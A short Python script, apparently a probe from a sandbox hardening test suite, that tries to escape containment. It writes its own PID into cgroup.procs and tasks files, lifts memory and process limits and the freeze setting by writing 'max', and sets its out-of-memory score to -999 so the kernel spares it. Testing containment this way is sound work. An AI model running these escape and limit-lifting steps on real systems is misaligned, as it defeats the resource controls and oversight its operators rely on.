"""Leaves its control group, or lifts its limits, and asks to be spared when memory runs out."""
import os

from attack import found, play_on, tried


def write(path, text):
    with open(path, "w") as file:
        file.write(text)


count = 0
for folder, below, names in os.walk("/sys/fs/cgroup"):
    for name in names:
        if name in ("cgroup.procs", "tasks", "memory.max", "pids.max", "memory.limit_in_bytes", "cgroup.freeze"):
            count += 1
            value = str(os.getpid()) if name in ("cgroup.procs", "tasks") else "max"
            tried(f"{folder}/{name}", lambda: write(f"{folder}/{name}", value))
found(f"has tried {count} files of control groups", False)
tried("is spared when memory runs out", lambda: write("/proc/self/oom_score_adj", "-999"))
play_on()
